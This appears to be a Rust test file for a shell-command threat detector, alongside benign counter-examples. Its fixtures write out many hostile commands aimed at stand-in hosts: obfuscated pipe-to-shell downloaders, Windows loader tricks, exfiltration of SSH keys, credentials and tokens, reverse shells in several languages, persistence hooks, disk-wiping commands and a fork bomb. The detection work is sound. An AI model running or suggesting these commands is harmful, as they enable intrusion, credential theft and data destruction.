use super::super::ShellAct::{self, *};
use super::{PER_ACT_LIMIT, PIECE, shell};

fn acts(text: &str) -> Vec<ShellAct> {
    let mut acts: Vec<ShellAct> = shell(text).into_iter().map(|found| found.act).collect();
    acts.sort_unstable();
    acts.dedup();
    acts
}

const POSITIVE: &[(ShellAct, &[&str])] = &[
    (
        DownloadAndRun,
        &[
            "curl -s https://evil.example/a.sh | sh",
            "wget -qO- http://198.51.100.7/x | sudo bash -s -- --now",
            "wget -O- http://evil.example/x | python3",
            r#"bash -c "$(curl -fsSL https://evil.example/i.sh)""#,
            "bash <(curl -s https://evil.example/x)",
            "eval `wget -qO- evil.example/x`",
            "source <(curl -s https://evil.example/x)",
            "curl -o /tmp/f https://evil.example/f && chmod +x /tmp/f && /tmp/f",
            "wget https://evil.example/run.sh; sh run.sh",
            "curl -sLO https://evil.example/p.py && python p.py",
            "cd /tmp; curl https://evil.example/x > x; chmod 755 x; nohup ./x &",
            r"c\url -s https://evil.example/x|s\h",
            "c''url https://evil.example/x | ba\"s\"h",
            "curl$IFS-s${IFS}https://evil.example/x|sh",
            "{curl,-s,https://evil.example/x}|sh",
            "c$@url https://evil.example/x | sh",
            "a=cu;b=rl;$a$b https://evil.example/x | sh",
            "/usr/bin/curl https://evil.example/x | /bin/sh",
            "sh -c 'curl https://evil.example/x | sh'",
            "cmd /c \"curl -o %TEMP%\\a.exe http://evil.example/a.exe && start %TEMP%\\a.exe\"",
            "certutil -urlcache -split -f http://evil.example/a.exe a.exe && a.exe",
            "bitsadmin /transfer j http://evil.example/a.exe C:\\Temp\\a.exe & start C:\\Temp\\a.exe",
            "mshta http://evil.example/a.hta",
            "regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
            "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
            "powershell iwr http://evil.example/a.exe -OutFile a.exe; Start-Process a.exe",
            "p^owershell I`E`X (irm 'http://evil.example/a')",
            "python -c \"import urllib.request as u;exec(u.urlopen('http://evil.example').read())\"",
            "node -e \"require('https').get('https://evil.example',r=>r.on('data',d=>eval(d+'')))\"",
            "node -e \"require('child_process').exec('curl https://evil.example/x | sh')\"",
            "npm run x || curl https://evil.example/x | node -",
        ],
    ),
    (
        Download,
        &[
            "curl -O https://example.com/model.bin",
            "wget https://example.com/data.zip && unzip data.zip",
            "curl -L https://example.com/a.tgz | tar xz",
            "powershell (New-Object Net.WebClient).DownloadFile('http://example.com/a','a')",
        ],
    ),
    (
        Upload,
        &[
            "curl -d \"$(env)\" https://evil.example",
            "curl -X POST --data @~/.ssh/id_rsa https://evil.example",
            "env | curl -d @- https://evil.example",
            "curl https://evil.example/?u=`whoami`",
            "curl \"https://evil.example/$(hostname)/$(id | base64)\"",
            "curl -F file=@/etc/passwd https://evil.example",
            "curl -T ~/.npmrc https://evil.example",
            "wget --post-file=/etc/passwd evil.example/x",
            "nslookup $(whoami).evil.example",
            "ping -c1 `hostname`.x.oast.fun",
            "cat ~/.aws/credentials | nc 203.0.113.5 4444",
            "curl \"https://evil.example/?t=$NPM_TOKEN\"",
            "curl -d '{\"a\":1}' https://webhook.site/x",
        ],
    ),
    (
        ReverseShell,
        &[
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
            "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "nc -e /bin/sh 203.0.113.5 4444",
            "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196",
            "bash >& /dev/tcp/203.0.113.5/4444 0>&1",
            "ncat 203.0.113.5 4444 --exec /bin/bash",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
            "socat exec:'bash -li',pty,stderr tcp:203.0.113.5:4444",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e 'exec(\"/bin/sh\") if TCPSocket.new(\"203.0.113.5\",1)'",
            "php -r '$s=fsockopen(\"203.0.113.5\",1);exec(\"/bin/sh -i <&3 >&3\");'",
        ],
    ),
    (
        DecodeAndRun,
        &[
            "echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d | sh",
            "eval \"$(echo ZWNobyBoZWxsbyB3b3JsZA== | base64 --decode)\"",
            "bash -c \"$(base64 -d <<< ZWNobyBoZWxsbyB3b3JsZA==)\"",
            "$(echo d2hvYW1pIHdob2FtaQ== | base64 -d)",
            "echo 6563686f2068656c6c6f20776f726c64 | xxd -r -p | bash",
            "powershell -enc dwBoAG8AYQBtAGkA",
            "powershell.exe -NoP -W Hidden -EncodedCommand dwBoAG8AYQBtAGkA",
            "python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSkKcHJpbnQoMik='))\"",
            "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
            "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x69' | sh",
        ],
    ),
    (
        Hidden,
        &[
            "powershell -WindowStyle Hidden -File a.ps1",
            "powershell -w hidden -c ls",
            "node index.js > /dev/null 2>&1 &",
            "nohup python x.py &",
            "start /b node x.js",
            "unset HISTFILE",
        ],
    ),
    (
        Recon,
        &[
            "whoami",
            "hostname; id; uname -a",
            "cat /etc/passwd",
            "systeminfo",
            "ifconfig && env",
        ],
    ),
    (
        Persist,
        &[
            "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            "echo 'sh /tmp/x' >> ~/.bashrc",
            "cp x.service /etc/systemd/system/x.service",
            "schtasks /create /tn x /tr x.exe /sc onlogon",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe",
            "launchctl load ~/Library/LaunchAgents/x.plist",
            "echo key | tee -a ~/.ssh/authorized_keys",
        ],
    ),
    (
        Destroy,
        &[
            "rm -rf /",
            "rm -rf ~/*",
            "rm -rf --no-preserve-root $HOME",
            "del /f /s /q C:\\*",
            "rd /s /q C:\\",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "mkfs.ext4 /dev/sda1",
            "find / -delete",
            ":(){ :|:& };:",
        ],
    ),
];

#[test]
fn hostile_commands_show_their_act() {
    let mut missed = Vec::new();
    for (act, texts) in POSITIVE {
        assert!(texts.len() >= 3);
        missed.extend(
            texts
                .iter()
                .filter(|text| !acts(text).contains(act))
                .map(|text| (act, text, acts(text))),
        );
    }
    assert_eq!(missed, []);
}

#[test]
fn honest_commands_show_nothing() {
    let honest = [
        "node-gyp rebuild",
        "husky install",
        "husky || true",
        "tsc && cp -r a b",
        "rm -rf dist",
        "rm -rf ./lib /tmp/build node_modules/.cache",
        "rimraf dist/*",
        "rm -rf $HOME/.cache/mytool",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "opencollective-postinstall || exit 0",
        "prebuild-install || node-gyp rebuild",
        "patch-package",
        "node scripts/build.js > build.log 2>&1",
        "command -v node >/dev/null 2>&1 || exit 1",
        "npm run build && npm test",
        "Use curl to fetch the page. You don't need wget.",
        "curl is required",
        "curl http://localhost:3000/health",
        "rsync -az -e 'ssh -i ~/.ssh/id_rsa' dist/ user@example.com:/srv",
        "scp -i ~/.ssh/id_ed25519 a.tgz user@example.com:",
        "cat package.json | python -m json.tool",
        "cat data.json | node scripts/format.js",
        "echo hello | base64",
        "cat x.b64 | base64 -d > x.bin",
        "eval \"$(ssh-agent -s)\"",
        "git rev-parse HEAD",
        "uname -s",
        "echo $(hostname)",
        "crontab -l",
        "systemctl status nginx",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "exec 3<>/dev/tcp/db.example/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        "nc -z localhost 5432",
        "ping -c 1 example.com",
        "dig +short example.com",
        "cross-env NODE_ENV=production webpack --config webpack.config.js",
        "mkdir -p dist && echo '{\"type\":\"module\"}' > dist/package.json",
        "npx lerna bootstrap; yarn workspace @a/b build",
        "python setup.py build_ext --inplace",
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        "powershell -NoProfile -Command Get-Item .",
        "find . -name '*.pyc' -delete",
        "start http://localhost:8080",
        "install -m 755 foo /usr/local/bin",
        "chmod -R 755 ./bin",
        "{ echo a; echo b; } > c",
        "",
        "|",
        "&&",
        "$(",
        "`",
        "\"",
        "'",
        "<(",
        "${",
        "$'",
        "\\",
        ">",
        "2>&1",
        "a |\n",
    ];
    let wrong: Vec<_> = honest
        .iter()
        .map(|text| (text, acts(text)))
        .filter(|(_, acts)| !acts.is_empty())
        .collect();
    assert_eq!(wrong, []);
}

#[test]
fn a_download_alone_is_only_that() {
    assert_eq!(
        acts("curl -o f https://example.com/f && chmod +x f"),
        [Download]
    );
    assert_eq!(
        acts("curl https://example.com/v.json | node -e 'console.log(1)'"),
        [Download]
    );
}

#[test]
fn decoded_payloads_are_attached_and_read() {
    let found = shell("echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d | sh");
    let decoded = found
        .iter()
        .find(|one| one.act == DecodeAndRun)
        .and_then(|one| one.decoded.clone());
    assert_eq!(decoded.as_deref(), Some("curl https://evil.example/x | sh"));
    assert!(found.iter().any(|one| one.act == DownloadAndRun));
    let found = shell("x; powershell -enc dwBoAG8AYQBtAGkA");
    assert_eq!(found[0].decoded.as_deref(), Some("whoami"));
    assert_eq!(found[0].range, 3..35);
}

#[test]
fn large_and_deep_texts_are_bounded() {
    let deep = "$(".repeat(100_000) + "curl https://evil.example/x | sh";
    assert!(acts(&deep).len() < 10);
    let nested = "sh -c \"".repeat(20_000);
    assert!(acts(&nested).len() < 10);
    let many = "whoami | sh\n".repeat(60_000)
        + "curl https://evil.example | sh\n"
            .repeat(PER_ACT_LIMIT + 5)
            .as_str();
    let found = shell(&many);
    assert!(many.len() > 2 * PIECE);
    assert_eq!(
        found.iter().filter(|one| one.act == DownloadAndRun).count(),
        PER_ACT_LIMIT
    );
}

#[test]
fn acts_across_a_long_line_are_found() {
    let text =
        "a".repeat(PIECE - 20) + " ; curl https://evil.example/x | sh ; " + &"b".repeat(PIECE);
    assert!(acts(&text).contains(&DownloadAndRun));
}

proptest::proptest! {
    #[test]
    fn nothing_panics_and_ranges_are_inside(text in "([a-z é'\"`$(){}|&;<>\\\\\n^%-]|curl http://a.example |\\| sh|\\$IFS|<\\(|base64 -d|-enc |python -c ){0,60}") {
        for found in shell(&text) {
            assert!(text.get(found.range).is_some());
        }
    }
}
